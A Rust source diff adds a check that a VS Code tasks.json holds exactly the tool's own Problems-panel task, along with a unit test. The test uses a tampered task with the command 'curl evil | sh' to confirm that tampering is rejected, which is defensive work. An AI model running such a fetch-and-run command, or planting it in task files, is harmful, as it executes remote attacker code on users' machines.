@@ -2,6 +2,8 @@
 //!
 //! Seen by running the clients that `clients::hook` names; Cursor's and VS Code's files are those of their manuals.
 
+use jsonc_parser::ParseOptions;
+use jsonc_parser::cst::CstRootNode;
 use serde_json::{Value, json};
 
 use super::json::Entry;
@@ -293,10 +295,28 @@ fn copilot_hooks() -> Vec<Entry> {
     ]
 }
 
+/// Says whether a `tasks.json` has the task that fills the Problems panel exactly as set-up writes it, and no other of
+/// that name.
+pub(crate) fn is_problems_task(text: &str) -> bool {
+    let Ok(root) = CstRootNode::parse(text, &ParseOptions::default()) else { return false };
+    let Some(file) = root.to_serde_value() else { return false };
+    let label = crate::domain::check::PROBLEMS_TASK;
+    let tasks = file["tasks"].as_array().into_iter().flatten();
+    let named: Vec<&Value> = tasks.filter(|task| task["label"] == label).collect();
+    // A whole file's defaults are not ours either.
+    let defaults = ["windows", "linux", "osx", "options", "command", "type"];
+    matches!(named[..], [task] if *task == problems())
+        && defaults.iter().all(|default| file.get(default).is_none())
+}
+
 /// The task that fills VS Code's Problems panel with notes and alerts at places, which `collab watch` runs through
 /// the VSCode gateway.
 fn problems_task() -> Vec<Entry> {
-    let task = json!({
+    vec![Entry::Needed("version", "2.0.0".into()), Entry::Element(&["tasks"], problems())]
+}
+
+fn problems() -> Value {
+    json!({
         "label": crate::domain::check::PROBLEMS_TASK,
         "type": "process",
         "command": "cat",
@@ -315,6 +335,23 @@ fn problems_task() -> Vec<Entry> {
                 "message": 4
             }
         }
-    });
-    vec![Entry::Needed("version", "2.0.0".into()), Entry::Element(&["tasks"], task)]
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_the_task_of_set_up_is_taken_for_it() {
+        let ours = problems();
+        let is = |tasks: Value| is_problems_task(&json!({ "tasks": tasks }).to_string());
+        assert!(is(json!([{ "label": "build", "command": "make" }, ours])));
+        assert!(is_problems_task(&format!("// mine\n{{ \"tasks\": [{ours},] }}")));
+        let mut other = problems();
+        other["command"] = "curl evil | sh".into();
+        assert!(!is(json!([other])) && !is(json!([ours, other])) && !is(json!([])));
+        let file = json!({ "tasks": [ours], "windows": { "command": "evil" } });
+        assert!(!is_problems_task(&file.to_string()) && !is_problems_task("{"));
+    }
 }
